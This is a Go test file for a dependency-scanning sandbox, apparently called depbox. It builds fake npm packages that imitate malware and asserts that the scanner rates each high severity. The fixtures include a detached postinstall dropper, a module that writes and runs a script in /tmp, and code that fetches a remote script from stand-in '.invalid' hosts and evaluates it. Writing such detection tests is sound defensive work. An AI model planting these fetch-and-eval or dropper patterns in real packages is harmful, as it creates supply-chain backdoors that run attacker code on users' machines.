package scan_test

import (
	"os"
	"strconv"
	"testing"

	"github.com/depbox/depbox/internal/verdict"
	"github.com/depbox/depbox/profile"
)

// findingsOn returns the rules that fired on an install path, by phase.
func findingsOn(p *profile.Profile, path string) map[string]map[string]verdict.Severity {
	out := map[string]map[string]verdict.Severity{}
	for _, f := range verdict.Evaluate(verdict.Input{Profile: p}, verdict.Options{}).Findings {
		if f.Path != path {
			continue
		}
		if out[f.Rule] == nil {
			out[f.Rule] = map[string]verdict.Severity{}
		}
		out[f.Rule][f.Phase] = f.Severity
	}
	return out
}

// TestDroppersAndRemoteCode runs, in the real sandbox, a postinstall that
// starts a binary the package ships, detached (as droppers do); a package
// that writes a payload to /tmp at import and executes it; a package that
// fetches code at import and evaluates it; and a backdoored first-party
// file that does the same when the handler loads. Every one must be high,
// on the right package and phase. The fixtures imitate malware; they run
// only in the sandbox and reach only *.invalid names.
func TestDroppersAndRemoteCode(t *testing.T) {
	dir := t.TempDir()
	writeBundle(t, dir, map[string]string{
		"package.json": `{"name":"fn","version":"1.0.0","dependencies":{"ship":"1.0.0","drop":"1.0.0","stage2":"1.0.0"}}`,
		"index.js":     "require('./lib/metrics');\nrequire('drop');\nrequire('stage2');\nexports.handler = async () => ({ statusCode: 200 });\n",
		// The backdoored first-party file.
		"lib/metrics.js": `require('http').get('http://cdn.metrics.invalid/m.js', (r) => { let b = ''; r.on('data', (d) => (b += d)); r.on('end', () => { try { new Function(b)(); } catch {} }); }).on('error', () => {});`,
		"node_modules/ship/package.json": `{"name":"ship","version":"1.0.0","scripts":{"postinstall":` +
			strconv.Quote(`node -e "require('child_process').spawn('./bin/updater', ['--daemon'], {detached: true, stdio: 'ignore'}).unref()"`) + `}}`,
		"node_modules/ship/bin/updater":  "#!/bin/sh\nid > /tmp/.updater\n",
		"node_modules/ship/index.js":     "module.exports = 1;",
		"node_modules/drop/package.json": `{"name":"drop","version":"1.0.0"}`,
		"node_modules/drop/index.js": `const fs = require('fs');
fs.writeFileSync('/tmp/.cache-x', '#!/bin/sh\nuname -a\n', { mode: 0o755 });
try { require('child_process').execFileSync('/tmp/.cache-x'); } catch {}
module.exports = 1;`,
		"node_modules/stage2/package.json": `{"name":"stage2","version":"1.0.0"}`,
		"node_modules/stage2/index.js": `require('http').get('http://stage2.evil.invalid/p', (r) => { let b = ''; r.on('data', (d) => (b += d)); r.on('end', () => { try { eval(b); } catch {} }); }).on('error', () => {});
module.exports = 1;`,
	})
	chmod(t, dir+"/node_modules/ship/bin/updater")
	p := run(t, invokeOptions(t, dir))
	for _, want := range []struct{ path, rule, phase string }{
		{"node_modules/ship", verdict.RuleDropper, profile.PhaseInstall},
		{"node_modules/drop", verdict.RuleDropper, profile.PhaseImport},
		{"node_modules/stage2", verdict.RuleRemoteCode, profile.PhaseImport},
		{".", verdict.RuleRemoteCode, profile.PhaseInvoke},
	} {
		if sev := findingsOn(p, want.path)[want.rule][want.phase]; sev != verdict.High {
			t.Errorf("%s: %s in the %s phase has severity %v, want high (findings %v)", want.path, want.rule, want.phase, sev, findingsOn(p, want.path))
		}
	}
}

func chmod(t *testing.T, path string) {
	t.Helper()
	if err := os.Chmod(path, 0o755); err != nil {
		t.Fatal(err)
	}
}
